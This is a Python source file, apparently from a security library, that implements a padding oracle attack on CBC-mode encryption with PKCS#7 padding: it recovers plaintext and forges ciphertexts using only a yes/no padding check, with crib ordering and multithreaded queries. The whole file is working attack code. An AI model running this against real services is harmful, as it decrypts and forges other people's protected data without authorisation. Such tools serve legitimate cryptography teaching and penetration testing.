#!/usr/bin/env python3
import logging
import sys
from multiprocessing.pool import ThreadPool

from .errors import EmptyError, MismatchedLengthsError, NotFoundError
from .util import chunks, pkcs7_pad, xor_bytes

# Ross Bradley

log = logging.getLogger(__name__)

STATE_FIND_PADDING = 0
STATE_FOUND_PADDING = 1
STATE_DECRYPT = 2

class PaddingOracleAttack(object):
	'''Class for exploiting CBC-mode padding oracles with PKCS#7 padding'''

	# most common english characters first
	CRIB_ENGLISH = ' etaoinshrdlucmfwypvbgkjqxzETAOINSHRDLUCMFWYPVBGKJQXZ0123456789.,\'"!?-\n'

	def __init__(self, ciphertext, callback, block_size=16, iv=None, append_test_blocks=False, crib='', workers=1, verbose=False):
		'''
		ciphertext: a valid ciphertext as bytes (decode the original from base64, ASCII hex etc.)
		callback: a function that takes one input (a candidate ciphertext) and returns True if the ciphertext decrypted to a value with valid padding, or False otherwise
		block_size: size of the block cipher in bytes (default: 16)
		iv: an IV as bytes. If the IV is hard-coded and does not form part of the ciphertext it can be provided here. Use a null IV to obtain the intermediate state for the first ciphertext block
		append_test_blocks: whether to append the test blocks to the full ciphertext, or only send the 2x test blocks (default: False)
		crib: a string of characters that are expected to appear in the plaintext, ordered from most-likely to less likely
		workers: number of threads used to send the candidates for each byte (default: 1). Only use with an oracle that is safe to call concurrently
		verbose: shows individual byte decryption output if enabled (default: False)
		'''
		if len(ciphertext) == 0:
			raise EmptyError('no ciphertext to attack')
		if len(ciphertext) % block_size != 0:
			raise MismatchedLengthsError(f'ciphertext length {len(ciphertext)} is not a multiple of {block_size}')
		if iv is not None and len(iv) != block_size:
			raise MismatchedLengthsError(f'IV must be {block_size} bytes, got {len(iv)}')

		# split the ciphertext into n-byte blocks
		self.blocks = chunks(ciphertext, block_size)

		# store the callback function
		# this is a user-supplied function that will test the chosen ciphertext for us and return:
		#   True = valid padding
		#   False = invalid padding
		self.callback = callback

		self.block_size = block_size

		# prepend an IV if provided
		# useful where the ciphertext does not include the IV (i.e. it is fixed)
		if iv is not None:
			self.blocks.insert(0, iv)
			self.first_block_idx = 1
		else:
			self.first_block_idx = 0

		if len(self.blocks) < 2:
			raise EmptyError('need an IV and at least one ciphertext block')

		self.num_blocks = len(self.blocks)

		self.append_test_blocks = append_test_blocks

		# save the crib if provided - used to speed up decryption
		self.crib = [ord(ch) for ch in crib]

		self.workers = workers

		# whether we should print to stdout or not
		self.verbose = verbose

		# initialise the FSM
		self.state = STATE_FIND_PADDING
		self.padding_byte = None

		# number of oracle queries
		self.stats = 0

	def debug(self, msg, newline=False):
		if self.verbose:
			sys.stdout.write(msg)
			if newline:
				print()

	def build_candidate_list(self, ct_val, target):
		# increase our decryption efficiency
		#   we know the plaintext ends with valid padding, so we only need to test block_size values for the last byte
		#   once we have valid padding we know the last padding_size bytes should == padding_size
		#   if we know/can guess the plaintext alphabet (probably ASCII for most cases) we can prioritise tests for those values
		if self.state == STATE_FIND_PADDING:
			preferred = [n for n in range(1, self.block_size + 1)]
		elif self.state == STATE_FOUND_PADDING:
			preferred = [self.padding_byte]
		else:
			preferred = self.crib

		# build the list of values we'd like to test for
		candidate_list = []
		for ch in preferred:
			val = ct_val ^ ch ^ target
			if val not in candidate_list:
				candidate_list.append(val)

		# append whatever values are left over just in case our guess/crib is wrong
		# order matters! we can't just use a set here - we need to append this stuff *after* our preferred candidates
		for n in range(256):
			if n not in candidate_list:
				candidate_list.append(n)
		return candidate_list

	def build_test_case(self, c_0, c_1):
		if self.append_test_blocks:
			# append two blocks (the modified block, and the one we're trying to decrypt) to the end of the valid ciphertext
			tmp = [block for block in self.blocks[self.first_block_idx:]]
			tmp.append(bytes(c_0))
			tmp.append(c_1)
		else:
			# just send the two blocks
			tmp = [bytes(c_0), c_1]
		return b''.join(tmp)

	def ask(self, c_0, c_1):
		self.stats += 1
		return self.callback(self.build_test_case(c_0, c_1))

	def confirm_single_byte_padding(self, c_0, c_1):
		'''
		A hit on the last byte could be a longer padding run (e.g. ...0202) rather than 01.
		Changing the second-to-last byte breaks any longer run but leaves 01 valid.
		'''
		if self.block_size < 2:
			return True
		c_0 = list(c_0)
		c_0[-2] ^= 0xff
		return self.ask(c_0, c_1)

	def find_hit(self, c_0, c_1, byte_idx, candidates):
		'''Returns the first candidate for c_0[byte_idx] that gives valid padding (and survives the last byte check)'''
		padding_num = self.block_size - byte_idx

		def test(byte_val):
			test_block = list(c_0)
			test_block[byte_idx] = byte_val
			return test_block

		if self.workers > 1:
			# ask about every candidate at once, then walk the hits in candidate order
			with ThreadPool(self.workers) as pool:
				results = pool.map(lambda byte_val: self.callback(self.build_test_case(test(byte_val), c_1)), candidates)
			self.stats += len(candidates)
			hits = [byte_val for byte_val, valid in zip(candidates, results) if valid]
			for byte_val in hits:
				if padding_num > 1 or self.confirm_single_byte_padding(test(byte_val), c_1):
					return byte_val
			return None

		for byte_val in candidates:
			self.debug(f'\r[Block {self.current_idx:2} | Byte {byte_idx:2}] Trying {byte_val:3}'.ljust(48))

			# query the oracle
			if not self.ask(test(byte_val), c_1):
				continue
			if padding_num > 1 or self.confirm_single_byte_padding(test(byte_val), c_1):
				return byte_val
			log.debug('block %d: discarding %d, valid padding was not 01', self.current_idx, byte_val)
		return None

	def intermediate_block(self, c_0, c_1, last=False):
		'''
		Recovers the intermediate state (decryption of c_1 before the xor with c_0) using only the oracle.

		c_0: the block that precedes c_1, used to order candidates and reported plaintext
		last: c_1 is the final block of the message and so ends with padding
		'''
		intermediate = [0] * self.block_size

		# decrypt each byte in turn, working from the right-most side
		for byte_idx in range(self.block_size - 1, -1, -1):
			padding_num = self.block_size - byte_idx

			# we need to get a "clean" previous ciphertext block each time
			test_block = [b for b in c_0]

			# update the tail of the block so it decrypts to the target padding
			for pad_idx in range(self.block_size - 1, byte_idx, -1):
				test_block[pad_idx] = padding_num ^ intermediate[pad_idx]

			hit = self.find_hit(test_block, c_1, byte_idx, self.build_candidate_list(c_0[byte_idx], padding_num))
			if hit is None:
				raise NotFoundError(f'no valid padding for block {self.current_idx} byte {byte_idx} - has the oracle changed?')

			intermediate[byte_idx] = hit ^ padding_num
			plain_byte = intermediate[byte_idx] ^ c_0[byte_idx]

			# update the FSM state
			if last and self.state == STATE_FIND_PADDING:
				self.state = STATE_FOUND_PADDING
				self.padding_byte = plain_byte
			if self.state == STATE_FOUND_PADDING and padding_num >= self.padding_byte:
				self.state = STATE_DECRYPT

			self.debug(f'\r[Block {self.current_idx:2} | Byte {byte_idx:2}] {plain_byte:02x} {chr(plain_byte) if chr(plain_byte).isprintable() else "."}'.ljust(48, ' '), newline=True)

		return bytes(intermediate)

	def decrypt_block(self, idx):
		self.current_idx = idx
		c_0 = self.blocks[idx - 1]
		intermediate = self.intermediate_block(c_0, self.blocks[idx], last=(idx == self.num_blocks - 1))
		return xor_bytes(intermediate, c_0)

	def decrypt(self):
		'''Decrypts the ciphertext. The result still carries its padding.'''
		plaintext = []
		self.state = STATE_FIND_PADDING

		for idx in range(self.num_blocks - 1, 0, -1):
			plaintext.insert(0, self.decrypt_block(idx))
			log.info('decrypted block %d: %r', idx, plaintext[0])

		return b''.join(plaintext)

	def encrypt(self, raw_message, known_ct=None, known_pt=None):
		'''
		raw_message: bytes to encrypt (will be padded)
		known_ct: a known ciphertext as bytes, IV first
		known_pt: the padded plaintext for known_ct, without the IV

		Returns IV + ciphertext that the oracle's key decrypts to raw_message.

		Note: providing a known CT/PT pair improves encryption time by saving on one block decryption
		'''
		# pad the message first - we can only encrypt messages that are multiples of the block size
		message = pkcs7_pad(raw_message, self.block_size)

		# chunk it up
		plain_chunks = chunks(message, self.block_size)

		# store the ciphertext blocks we create for our plaintext message
		ciphertexts = []

		# cheap shortcut to speed up encryption - we know the ciphertext X decrypts to the intermediate block Y, so pick the last block as X
		#  now we can just xor the final plaintext block with the intermediate block to get the previous block
		if known_ct is not None and known_pt is not None and len(known_ct) == len(known_pt) + self.block_size:
			known_ct_chunks = chunks(known_ct, self.block_size)
			ib = xor_bytes(known_ct_chunks[-2], chunks(known_pt, self.block_size)[-1])
			ciphertexts.append(known_ct_chunks[-1])

			# xor the final plaintext chunk with the known intermediate block to create the preceding ciphertext block
			ciphertexts.insert(0, xor_bytes(plain_chunks.pop(), ib))
		else:
			# just pick a starting value - any block decrypts to *something*
			ciphertexts.append(b'\x00' * self.block_size)

		# no padding hints apply to blocks we invent
		self.state = STATE_DECRYPT

		# now we need to encrypt any remaining plaintext chunks
		while len(plain_chunks) > 0:
			# use a null IV to obtain the intermediate block of the latest ciphertext block
			self.current_idx = len(plain_chunks)
			ib = self.intermediate_block(b'\x00' * self.block_size, ciphertexts[0])
			# xor the plaintext block we want to encrypt with the intermediate block to create the preceding ciphertext block
			ciphertexts.insert(0, xor_bytes(plain_chunks.pop(), ib))

		return b''.join(ciphertexts)

def recover_cbc_plaintext(ciphertext, iv, block_size, padding_oracle, **kwargs):
	'''
	Recover the padded plaintext of ciphertext using only padding_oracle.
	iv may be None if it is the first block of ciphertext. kwargs go to PaddingOracleAttack.
	'''
	return PaddingOracleAttack(ciphertext, padding_oracle, block_size=block_size, iv=iv, **kwargs).decrypt()
